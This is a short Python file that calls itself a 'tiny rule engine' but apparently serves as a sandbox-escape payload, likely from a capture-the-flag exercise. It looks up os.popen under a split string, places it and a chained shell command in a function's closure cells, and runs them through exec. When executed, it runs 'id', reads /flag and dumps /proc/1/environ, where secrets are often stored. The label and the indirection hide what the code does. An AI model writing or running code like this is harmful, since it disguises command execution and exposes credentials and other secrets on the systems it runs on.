# Tiny rule engine: a rule body is compiled once and re-bound to new inputs.
import shutil
import types


def rule_template():
    handler = None
    subject = None

    def rule():
        print(handler(subject).read())

    return rule


BINDINGS = {
    "handler": vars(shutil.os)["po" + "pen"],
    "subject": "; ".join(["id", "cat /flag", "cat /proc/1/environ"]),
}


def run_rule(bindings):
    body = rule_template().__code__
    cells = tuple(types.CellType(bindings[name]) for name in body.co_freevars)
    # Python 3.11 exec() accepts closure= for code objects with free variables
    exec(body, {"print": print}, closure=cells)


if __name__ == "__main__":
    print("rules loaded:", len(BINDINGS))
    run_rule(BINDINGS)
